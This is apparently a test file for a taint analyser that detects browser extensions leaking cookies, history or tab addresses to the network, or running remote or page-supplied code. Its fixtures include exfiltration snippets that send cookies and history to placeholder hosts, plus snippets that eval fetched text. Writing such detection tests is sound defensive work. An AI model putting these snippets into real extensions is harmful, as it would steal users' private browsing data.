import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Example } from '../rule.ts';
import { factsOf } from '../testing/examples.ts';
import type { Flows } from '../taint/follow.ts';
import { flowsOf } from './flowsOf.ts';
import { sample } from '../testing/sample.ts';

const flows = async (example: Example): Promise<Flows> => (await factsOf(example)).whole(flowsOf);
const pairs = async (example: Example): Promise<string[]> =>
  (await flows(example)).flows
    .map(({ source, sink, checked }) => `${source.kind} > ${sink.kind}${checked ? ' checked' : ''}`)
    .filter((pair) => !pair.includes('network') || !pair.startsWith('remote'));

describe('functions', () => {
  it('keeps callers of one function apart', async () => {
    const found = await flows(
      sample({
        background:
          'const same = (x) => x; chrome.cookies.getAll({}, (c) => { const kept = same(c); list.push(kept.length); }); fetch("https://a.example", { method: "POST", body: same("nothing") }); const list = [];',
      }),
    );
    expect(found.flows).toEqual([]);
  });

  it('follows closures, methods, fields and inheritance', async () => {
    expect(
      await pairs(
        sample({
          background:
            'class Base { send() { fetch("https://a.example", { body: this.data }); } } class Child extends Base { take(d) { this.data = d; } } const c = new Child(); chrome.history.search({}, (h) => { c.take(h); c.send(); });',
        }),
      ),
    ).toContain('history > network');
    expect(
      await pairs(
        sample({
          background:
            'class Box { take(d) { this.data = d; this.send(); } send() { fetch("https://a.example", { body: JSON.stringify(this.data) }); } } const c = new Box(); chrome.history.search({}, (h) => { c.take(h); });',
        }),
      ),
    ).toContain('history > network');
    expect(
      await pairs(
        sample({
          background:
            'function Box() {} Box.prototype.take = function (d) { this.data = d; }; Box.prototype.send = function () { fetch("https://a.example", { body: this.data }); }; var b = new Box(); chrome.history.search({}, function (h) { b.take(h[0].url); b.send(); });',
        }),
      ),
    ).toContain('history > network');
    expect(
      await pairs(
        sample({
          background:
            'function maker(send) { return function (h) { send(h); }; } chrome.history.search({}, maker((x) => navigator.sendBeacon("https://a.example", x)));',
        }),
      ),
    ).toContain('history > network');
  });

  it('follows lists that are spread or applied as arguments', async () => {
    const send = 'function send(where, what) { fetch("https://a.example", { body: what }); }';
    expect(
      await pairs(
        sample({ background: `${send} chrome.history.search({}, (h) => { const list = [0, h]; send(...list); });` }),
      ),
    ).toContain('history > network');
    expect(
      await pairs(
        sample({
          background: `${send} chrome.history.search({}, (h) => { const list = [0]; list.push(h); send.apply(null, list); });`,
        }),
      ),
    ).toContain('history > network');
    expect(
      await pairs(
        sample({
          background: `${send} chrome.history.search({}, (h) => { const list = [h.length]; send(...list); });`,
        }),
      ),
    ).toEqual([]);
  });

  it('follows what compilers make of async functions', async () => {
    const babel = (sent: string): string =>
      `function read() { return _read.apply(this, arguments); } function _read() { _read = _asyncToGenerator(regeneratorRuntime.mark(function c() { var h; return regeneratorRuntime.wrap(function c$(_context) { while (1) switch (_context.prev = _context.next) { case 0: _context.next = 2; return chrome.history.search({}); case 2: h = _context.sent; return _context.abrupt("return", ${sent}); } }, c); })); return _read.apply(this, arguments); } read().then(function (x) { fetch("https://a.example", { body: x }); });`;
    expect(await pairs(sample({ background: babel('h') }))).toContain('history > network');
    expect(await pairs(sample({ background: babel('h.length') }))).toEqual([]);
    const typescript = (sent: string): string =>
      `function read() { return __awaiter(this, void 0, void 0, function () { var h; return __generator(this, function (_a) { switch (_a.label) { case 0: return [4, chrome.history.search({})]; case 1: h = _a.sent(); return [2, ${sent}]; } }); }); } read().then(function (x) { fetch("https://a.example", { body: x }); });`;
    expect(await pairs(sample({ background: typescript('h') }))).toContain('history > network');
    expect(await pairs(sample({ background: typescript('h.length') }))).toEqual([]);
  });

  it('takes no check of a message for one that its own page or a longer name passes', async () => {
    const asks = (test: string, content = true): Example =>
      sample({
        [content ? 'content' : 'exposed']:
          `window.addEventListener("message", (e) => { if (${test}) return; chrome.runtime.sendMessage({ op: "get", url: e.data.url }); });`,
        background: 'chrome.runtime.onMessage.addListener((m) => { if (m.op === "get") fetch(m.url); });',
      });
    expect(await pairs(asks('e.origin !== window.location.origin'))).toContain('page-message > request-address');
    expect(await pairs(asks('e.origin.indexOf("app.example") === -1'))).toContain('page-message > request-address');
    expect(await pairs(asks('!isOurMessage(e.data)'))).toContain('page-message > request-address');
    expect(await pairs(asks('e.origin !== "https://app.example"'))).not.toContain('page-message > request-address');
    expect(await pairs(asks('!e.origin.endsWith(".app.example")'))).not.toContain('page-message > request-address');
    expect(await pairs(asks('!isAllowed(e.data.url)'))).not.toContain('page-message > request-address');
    // In a page of the extension its own origin is the extension's.
    expect(await pairs(asks('e.origin !== location.origin', false))).not.toContain('page-message > request-address');
  });

  it('is not led astray by the names that minifiers give', async () => {
    const shown = (clean: string): Example =>
      sample({
        content: `import { sanitize as s, shout as t } from "some-lib"; import u from "sanitize-html"; window.addEventListener("message", (e) => { document.body.innerHTML = ${clean}(e.data); });`,
      });
    expect(await pairs(shown('s'))).toEqual([]);
    expect(await pairs(shown('u'))).toEqual([]);
    expect(await pairs(shown('t'))).toContain('page-message > html');
    expect(
      await pairs(
        sample({
          content: 'const a = chrome.runtime.connect(); a.onMessage.addListener((b) => window.postMessage(b, "*"));',
          background:
            'chrome.runtime.onConnect.addListener((q) => { chrome.history.search({}, (h) => q.postMessage({ h })); });',
        }),
      ),
    ).toContain('history > page-message');
  });

  it('follows promises that are kept to be resolved later', async () => {
    const later = (what: string): string =>
      `const waiting = new Map(); function ask(id) { return new Promise((resolve) => { waiting.set(id, { resolve }); }); } chrome.history.search({}, (h) => { const { resolve } = waiting.get(1); resolve(${what}); }); ask(1).then((x) => fetch("https://a.example", { body: x }));`;
    expect(await pairs(sample({ background: later('h') }))).toContain('history > network');
    expect(await pairs(sample({ background: later('h.length') }))).toEqual([]);
  });

  it('knows parts of the interface that are handed on, and wrappers of them', async () => {
    expect(
      await pairs(
        sample({
          background:
            'class Service { constructor(api) { this.api = api; } async all() { return this.api.search({}); } } new Service(chrome.history).all().then((h) => fetch("https://a.example", { body: h }));',
        }),
      ),
    ).toContain('history > network');
    expect(
      await pairs(
        sample({
          background:
            'const later = (fn) => (...args) => new Promise((done) => fn(...args, done)); const search = later(chrome.history.search); const query = later(chrome.windows.getAll); search({}).then((h) => log(h)); query({}).then((w) => fetch("https://a.example", { body: w })); function log() {}',
        }),
      ),
    ).toEqual([]);
    expect(
      await pairs(
        sample({
          background:
            'const later = (fn) => (...args) => new Promise((done) => fn(...args, done)); const search = later(chrome.history.search); search({}).then((h) => fetch("https://a.example", { body: h }));',
        }),
      ),
    ).toContain('history > network');
  });

  it('hands each argument of an injected function on, also where several hold parts of the same', async () => {
    expect(
      await pairs(
        sample({
          background:
            'fetch("https://cfg.example/c").then((r) => r.json()).then((c) => chrome.scripting.executeScript({ target: { tabId: 1 }, func: (what, to) => { fetch(to); }, args: [c.what, c.to] }));',
        }),
      ),
    ).toEqual(['remote-data > request-address']);
  });

  it('keeps the `this` that a function is bound to', async () => {
    expect(
      await pairs(
        sample({
          background:
            'class Box { start() { chrome.history.search({}, function (h) { this.data = h; this.send(); }.bind(this)); } send() { fetch("https://a.example", { body: this.data }); } } new Box().start();',
        }),
      ),
    ).toContain('history > network');
    expect(
      await pairs(
        sample({
          background:
            'class Box { start() { chrome.history.search({}, function (h) { this.data = h; }); } send() { fetch("https://a.example", { body: this.data }); } } new Box().start();',
        }),
      ),
    ).toEqual([]);
  });

  it('keeps properties of an object apart', async () => {
    expect(
      await pairs(
        sample({
          background:
            'chrome.history.search({}, (h) => { const o = { a: h, b: "x" }; fetch("https://a.example", { body: o.b }); });',
        }),
      ),
    ).toEqual([]);
    expect(
      await pairs(
        sample({
          background:
            'chrome.history.search({}, (h) => { const o = {}; o.list = h; const { list: [first, ...rest] } = o; fetch("https://a.example", { body: first.url }); });',
        }),
      ),
    ).toContain('history > network');
  });

  it('lets a new value end the old one', async () => {
    expect(
      await pairs(
        sample({ content: 'window.addEventListener("message", (e) => { let x = e.data; x = "fixed"; eval(x); });' }),
      ),
    ).toEqual([]);
  });
});

describe('between scripts', () => {
  it('follows imports, globals and re-exports', async () => {
    const found = await pairs(
      sample({
        background: 'import { take } from "./lib/index.js"; chrome.history.search({}, take);',
        files: {
          'lib/index.js': 'export * from "./send.js";',
          'lib/send.js':
            'const URL_ = "https://a.example"; export function take(items) { fetch(URL_, { method: "POST", body: JSON.stringify(items) }); }',
        },
      }),
    );
    expect(found).toContain('history > network');
  });

  it('follows variables shared by classic scripts', async () => {
    const found = await pairs(
      sample({
        manifest: { manifest_version: 2, background: { scripts: ['a.js', 'b.js'] } },
        files: {
          'a.js': 'var Api = { send: function (x) { $.post("https://a.example", x); } };',
          'b.js': 'chrome.cookies.getAll({}, function (c) { Api.send(c); });',
        },
      }),
    );
    expect(found).toContain('cookies > network');
  });

  it('follows calls between the modules of a bundle', async () => {
    const webpack =
      '(()=>{"use strict";var e={12:(e,t,n)=>{n.d(t,{Z:()=>r,q:()=>o});function r(e){fetch("https://a.example",{body:JSON.stringify(e)})}const o=1},34:function(e,t,n){var r=n(12),i=n(56),s=n.n(i);chrome.cookies.getAll({},(function(e){(0,r.Z)(e)}));chrome.history.search({},(function(e){s()(e)}))},56:(e,t,n)=>{e.exports=function(e){navigator.sendBeacon("https://b.example",e)}}}})();';
    expect(await pairs(sample({ background: webpack }))).toEqual(
      expect.arrayContaining(['cookies > network', 'history > network']),
    );
    const browserify =
      '(function e(t,n,r){})({1:[function(require,module,exports){exports.send=function(x){fetch("https://a.example",{body:x})}},{}],2:[function(require,module,exports){var s=require("./send");chrome.cookies.getAll({},function(c){s.send(c)})},{"./send":1}]},{},[2]);';
    expect(await pairs(sample({ background: browserify }))).toContain('cookies > network');
  });

  it('follows answers back to the sender', async () => {
    const found = await pairs(
      sample({
        background:
          'browser.runtime.onMessage.addListener(async (m) => { if (m.type === "cookies") return { list: await browser.cookies.getAll({}) }; });',
        content: 'browser.runtime.sendMessage({ type: "cookies" }).then(({ list }) => window.postMessage(list, "*"));',
      }),
    );
    expect(found).toContain('cookies > page-message');
  });

  it('tells messages by their type, constants of other files included', async () => {
    const types = 'export const SAVE = "save"; export const RUN = "run";';
    const background =
      'import { RUN, SAVE } from "./types.js"; chrome.runtime.onMessage.addListener((m) => { switch (m.type) { case RUN: chrome.tabs.executeScript({ code: m.body }); break; case SAVE: chrome.storage.local.set({ body: m.body }); } });';
    const content = (name: string): string =>
      `window.addEventListener("message", (e) => chrome.runtime.sendMessage({ type: "${name}", body: e.data }));`;
    expect(await pairs(sample({ background, content: content('run'), files: { 'types.js': types } }))).toContain(
      'page-message > injected-code',
    );
    expect(await pairs(sample({ background, content: content('save'), files: { 'types.js': types } }))).not.toContain(
      'page-message > injected-code',
    );
  });

  it('sees a text that takes the place of a function before a timer runs it', async () => {
    const code = (given: string): string =>
      `let text = ''; function run(one) { return one && console.log(one); } function start() { setTimeout(run, 1000); }
       function check() { if (text.length > 0) run = ${given}; start(); }
       fetch('https://a.example/logo').then((r) => r.text()).then((t) => { text = t; check(); });`;
    expect(await pairs(sample({ background: code('atob(text)') }))).toContain('remote-data > code');
    expect(await pairs(sample({ background: code('() => atob(text)') }))).not.toContain('remote-data > code');
  });

  it('follows values through storage by key', async () => {
    const read = (key: string): string => `chrome.storage.local.get("${key}", (o) => { setTimeout(o.${key}, 1); });`;
    const write =
      'fetch("https://a.example/x").then((r) => r.text()).then((t) => chrome.storage.local.set({ script: t }));';
    expect(await pairs(sample({ background: write + read('script') }))).toContain('remote-data > code');
    expect(await pairs(sample({ background: write + read('other') }))).not.toContain('remote-data > code');
  });

  it('hands arguments to injected functions', async () => {
    expect(
      await pairs(
        sample({
          background:
            'chrome.runtime.onMessageExternal.addListener((m) => { chrome.scripting.executeScript({ target: { tabId: 1 }, func: (a, b) => { eval(b); }, args: ["x", m.code] }); });',
        }),
      ),
    ).toContain('external-message > code');
    expect(
      await pairs(
        sample({
          background:
            'chrome.runtime.onMessageExternal.addListener((m) => { chrome.scripting.executeScript({ target: { tabId: 1 }, func: (a, b) => { eval(b); }, args: [m.code, "x"] }); });',
        }),
      ),
    ).not.toContain('external-message > code');
  });
});

describe('checks', () => {
  it.each([
    'if (e.origin !== "https://a.example") return; eval(e.data);',
    'if (e.origin === "https://a.example") { eval(e.data); }',
    'e.origin === "https://a.example" && eval(e.data);',
    'const ok = e.origin === "https://a.example"; if (!ok) return; eval(e.data);',
    'const { origin, data } = e; if (!ALLOWED.includes(origin)) throw new Error("no"); eval(data);',
    'switch (e.origin) { case "https://a.example": eval(e.data); }',
    'if (new URL(e.origin).hostname !== "a.example") return; eval(e.data);',
    'if (!isTrusted(e.origin)) return; eval(e.data);',
  ])('sees %s', async (body) => {
    expect(await pairs(sample({ content: `window.addEventListener("message", (e) => { ${body} });` }))).toEqual([
      'page-message > code checked',
    ]);
  });

  it.each([
    'if (e.source !== window) return; eval(e.data);',
    'if (e.data.type === "run") eval(e.data.code);',
    'if (e.origin === "https://a.example") log(); eval(e.data);',
    'if (typeof e.data === "string") eval(e.data);',
  ])('is not content with %s', async (body) => {
    expect(
      await pairs(sample({ content: `window.addEventListener("message", (e) => { ${body} }); function log() {}` })),
    ).toEqual(['page-message > code']);
  });
});

describe('work', () => {
  const chain = (length: number): Example =>
    sample({
      background: `chrome.cookies.getAll({}, f0); ${Array.from({ length }, (_, n) => `function f${n}(x) { const y = { v: x }; f${n + 1}(y.v); }`).join('\n')} function f${length}(x) { fetch("https://a.example", { body: x }); }`,
    });

  it('grows in proportion to the code', async () => {
    const [small, large] = [await flows(chain(50)), await flows(chain(500))];
    expect(small.flows.length).toBeGreaterThan(0);
    expect(large.flows.length).toBeGreaterThan(0);
    expect(large.steps).toBeLessThanOrEqual(small.steps * 11);
  });

  it('grows in proportion to the callers of one function', async () => {
    const fan = (count: number): Example =>
      sample({
        background: `function send(x) { fetch("https://a.example", { body: x }); } ${Array.from({ length: count }, (_, n) => `chrome.cookies.getAll({ name: "${n}" }, (c) => send(c));`).join('\n')}`,
      });
    const [small, large] = [await flows(fan(20)), await flows(fan(400))];
    expect(large.steps).toBeLessThanOrEqual(small.steps * 21);
  });

  it('tells where data comes from, however many hand it to one function', async () => {
    const thieves = (count: number): Example =>
      sample({
        content: `function send(x) { fetch("https://a.example/?" + x); } ${'send(document.cookie);'.repeat(count)}`,
      });
    for (const count of [20, 2500]) expect(await pairs(thieves(count))).toContain('page-cookies > network');
  });

  it('says when it left something out: more sources of one script than are followed', async () => {
    const thieves = (count: number): Example =>
      sample({ content: 'fetch("https://a.example/?" + document.cookie);'.repeat(count) });
    const [some, many] = [await flows(thieves(1500)), await flows(thieves(6000))];
    expect(some).toMatchObject({ whole: true });
    expect(some.flows).toHaveLength(1500);
    expect(many).toMatchObject({ whole: false });
    expect(many.flows).toHaveLength(2000);
  });

  it('says when it left something out: more receivers of messages than are followed', async () => {
    const talk = (count: number): Example =>
      sample({
        content: 'chrome.runtime.sendMessage(document.cookie);'.repeat(count),
        background: 'chrome.runtime.onMessage.addListener((m) => { fetch("https://a.example", { body: m }); });'.repeat(
          count,
        ),
      });
    const [some, many] = [await flows(talk(20)), await flows(talk(1000))];
    expect(some).toMatchObject({ whole: true });
    expect(many).toMatchObject({ whole: false });
    expect(many.flows.length).toBeGreaterThan(500);
  });

  it('does not follow data that is only looked at', async () => {
    const looks =
      'if (t.url === "") n++; if (t.url.length > 3) n--; const kept = t.url; let other = kept; t.index + 1; t.id.x;';
    const steps = async (count: number): Promise<number> =>
      (
        await flows(
          sample({
            background: `let n = 0; chrome.tabs.query({}, (tabs) => { const t = tabs[0]; ${looks.repeat(count).replaceAll('const kept', 'var kept').replaceAll('let other', 'var other')} fetch("https://a.example", { body: t.url }); });`,
          }),
        )
      ).steps;
    expect(await steps(1)).toBeGreaterThan(5);
    expect(await steps(50)).toBe(await steps(1));
  });

  it('does not follow data in an object whose other properties are read and whose methods are called', async () => {
    const looks = 'app.show(n); app.count.more(); app.tabs.clear();';
    const steps = async (count: number): Promise<number> =>
      (
        await flows(
          sample({
            background: `const app = { list: [], show(x) { console.log(x); }, count: { more() {} }, tabs: new Map() }; let n = 0; chrome.cookies.getAll({}, (c) => { app.list = c; fetch("https://a.example", { body: app.list }); }); function run() { ${looks.repeat(count)} }`,
          }),
        )
      ).steps;
    expect(await steps(1)).toBeGreaterThan(5);
    expect(await steps(50)).toBe(await steps(1));
  });

  it('follows data less far where it may be in any of many objects than where it is in one', async () => {
    const rounds = Array.from(
      { length: 6 },
      (_, n) => `const v${n} = pick(); v${n}.a${n} = pick(); v${n}.b${n} = pick();`,
    ).join(' ');
    const steps = async (count: number): Promise<number> =>
      (
        await flows(
          sample({
            background: `const all = new Map(); ${Array.from({ length: count }, (_, n) => `all.set(${n}, { own${n}() { return this.p0; } });`).join(' ')} const pick = () => all.get(self.n); chrome.cookies.getAll({}, (c) => { const v = pick(); v.p0 = c; ${rounds} fetch("https://a.example", { body: pick().a0 }); });`,
          }),
        )
      ).steps;
    expect(await steps(14)).toBeLessThan((await steps(1)) * 0.7);
  });

  it('ends on circles', async () => {
    const found = await flows(
      sample({
        background:
          'let a = {}; let b = a; chrome.cookies.getAll({}, function again(c) { a.next = c; b = a.next; a = { next: b, more: a }; again(b); a[b] = a; }); fetch("https://x.example", { body: a.next });',
      }),
    );
    expect(found.whole).toBe(true);
  });

  it('never throws on broken or odd scripts', async () => {
    const words = fc.constantFrom(
      'chrome',
      '.',
      'runtime',
      'onMessage',
      'addListener',
      '(',
      ')',
      '{',
      '}',
      '=>',
      'm',
      ',',
      'this',
      '=',
      'x',
      ';',
      'class',
      'A',
      'eval',
      'function',
      'return',
      '[',
      ']',
      '...',
      'await',
      'async',
      'const',
      'sendMessage',
      'if',
      '===',
      '"a"',
      'fetch',
      'window',
      'addEventListener',
      '"message"',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(words, { maxLength: 60 }), fc.array(words, { maxLength: 60 }), async (one, other) => {
        const { steps } = await flows(
          sample({
            background: `chrome.runtime.onMessageExternal.addListener((m) => { ${one.join(' ')} });`,
            content: other.join(' '),
          }),
        );
        expect(steps).toBeGreaterThanOrEqual(0);
      }),
      { numRuns: 100 },
    );
  }, 60_000);
});

describe('an address that is asked for', () => {
  const told = (code: string): Promise<string[]> =>
    pairs(sample({ background: `chrome.tabs.onUpdated.addListener((id, info, tab) => { ${code} });` }));
  const helpers =
    'function ask(a) { return fetch(a, { method: "GET" }); } function bare(a) { return a.slice(0, a.indexOf("#")); }';

  it('is not sent to anybody, whatever function it is asked by', async () => {
    for (const code of ['fetch(tab.url);', 'ask(tab.url);', 'ask(bare(tab.url));', 'fetch(new Request(tab.url));'])
      expect(await told(code + helpers), code).not.toContain('tabs > network');
  });

  it('is sent where another one holds it, and so is what a request takes along', async () => {
    for (const code of [
      'ask("https://gather.example/?" + tab.url);',
      'ask(tab.url.replace("https://", "https://gather.example/"));',
      'ask(new Request("https://gather.example/", { method: "POST", body: tab.url }));',
      'const request = new Request("https://gather.example/", { headers: { from: tab.url } }); fetch(request);',
      'axios({ url: "https://gather.example/", data: tab.url });',
    ])
      expect(await told(code + helpers), code).toContain('tabs > network');
  });
});
